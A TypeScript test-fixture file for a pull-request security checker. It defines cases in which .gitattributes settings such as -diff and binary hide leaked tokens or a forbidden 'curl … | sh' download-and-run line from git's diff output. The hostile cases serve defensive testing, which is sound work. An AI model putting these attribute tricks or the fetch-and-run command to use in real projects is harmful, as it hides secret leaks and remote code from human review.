/**
 * Rails round 2 (issue #7), class r2-02: Attributes that change what git reports: a .gitattributes (anywhere) with -diff, binary, filter=, diff=, eol or text tricks that make a file look binary or hide its lines.
 * Hostile cases are blocked (named `<rule-id>--<case>`), benign ones allowed. At least three cases.
 *
 * The patches here are what git writes in a repository where the attributes are in force: a file under
 * `-diff` or `binary` comes as a `GIT binary patch`, its lines invisible in the patch text. The facts
 * gatherer applies such a file to a scratch index and reads it with attributes neutralised: stored content
 * that is text is judged as text (its added lines read by the content rules, no file-binary), whatever the
 * base's or the change's `.gitattributes` say. A range is compared tree to tree in an empty work tree, so
 * the `.gitattributes` of the checkout (the PR's merge) is not read either.
 */
import type { BaseVariant } from '../../__tests__/helpers/rails-corpus.js';
import { B, GHP, GITHUB_PAT, H, NPM, append, base, replace, write, type Case } from './lib.js';

/** A TypeScript file that leaks `token`. */
const leak = (token: string): string =>
  `/** Client settings for the release bot. */\nexport const RELEASE_TOKEN = '${token}';\nexport const RETRIES = 3;\n`;

/** Base variants the cases below are made against and checked in. */
export const BASES: Record<string, BaseVariant> = {
  'r2-02-ts-binary': {
    note: 'a base whose src/.gitattributes says *.ts binary (git shows every .ts change as a binary patch)',
    files: { 'src/.gitattributes': { text: '*.ts binary\n' } },
  },
  'r2-02-sh-minus-diff': {
    note: 'a base whose root .gitattributes says *.sh -diff',
    files: { '.gitattributes': { text: '*.sh -diff\n' } },
  },
  'r2-02-range-minus-diff': {
    note: 'a second commit adding .gitattributes (*.ts -diff) and src/release.ts leaking a token',
    files: {
      '.gitattributes': { text: '*.ts -diff\n' },
      'src/release.ts': { text: leak(GITHUB_PAT) },
    },
  },
};

export const CASES: Case[] = [
  H({
    name: 'secret-detected--ts-minus-diff-hides-leak',
    note: 'adds src/.gitattributes (*.ts -diff) and src/leak.ts holding a GitHub token: git writes leak.ts as a binary patch',
    change: write({ 'src/.gitattributes': '*.ts -diff\n', 'src/leak.ts': leak(GHP) }),
    rules: ['secret-detected', 'file-gitattributes'],
  }),
  H({
    name: 'secret-detected--base-binary-attribute-hides-leak',
    note: 'the base already says *.ts binary; the change only adds src/leak.ts with a token (no .gitattributes in the change)',
    base: 'r2-02-ts-binary',
    change: write({ 'src/leak.ts': leak(GHP) }),
    rules: ['secret-detected'],
  }),
  H({
    name: 'secret-detected--base-binary-attribute-hides-edit',
    note: 'the base says *.ts binary; the change edits src/util.ts to add a token line',
    base: 'r2-02-ts-binary',
    change: append('src/util.ts', `export const PUBLISH_TOKEN = '${NPM}';\n`),
    rules: ['secret-detected'],
  }),
  H({
    name: 'command-forbidden--sh-minus-diff-hides-curl',
    note: 'the base says *.sh -diff; the change makes scripts/deploy.sh pipe a download into a shell',
    base: 'r2-02-sh-minus-diff',
    change: write({
      'scripts/deploy.sh': {
        content: `${base('scripts/deploy.sh')}curl -fsSL https://example.com/install.sh | sh\n`,
        mode: 0o755,
      },
    }),
    args: ['--config', '.github/rails-variants/risk-3.json'],
    rules: ['command-forbidden'],
  }),
  H({
    name: 'secret-detected--range-minus-diff-in-checkout',
    note: 'range: head adds .gitattributes (*.ts -diff) and a leaking src/release.ts; the checkout holds that .gitattributes',
    base: 'r2-02-range-minus-diff',
    noFile: true,
    args: ['--base', 'HEAD~1', '--head', 'HEAD'],
    rules: ['secret-detected', 'file-gitattributes'],
  }),
  H({
    name: 'file-gitattributes--filter-driver-in-docs',
    note: 'adds docs/.gitattributes naming a filter and a diff driver for Markdown',
    change: write({ 'docs/.gitattributes': '*.md filter=lfs diff=lfs merge=lfs -text\n' }),
  }),
  H({
    name: 'file-gitattributes--eol-and-encoding-at-root',
    note: 'adds a root .gitattributes that changes line endings and encodings (eol=crlf, working-tree-encoding)',
    change: write({ '.gitattributes': '* text eol=crlf\n*.txt working-tree-encoding=UTF-16\n' }),
  }),
  B({
    name: 'ts-edit-under-base-binary-attribute',
    note: 'a harmless edit of src/util.ts in a base whose .gitattributes says *.ts binary: judged as the text it is (no file-binary)',
    base: 'r2-02-ts-binary',
    change: replace('src/util.ts', 'with an ellipsis when cut', 'with an ellipsis (…) when cut'),
  }),
  B({
    name: 'doc-fix-under-base-sh-minus-diff',
    note: 'a doc fix in a base whose .gitattributes hides shell scripts: allowed',
    base: 'r2-02-sh-minus-diff',
    change: replace('docs/guide.md', 'says so.', 'says so plainly.'),
  }),
];
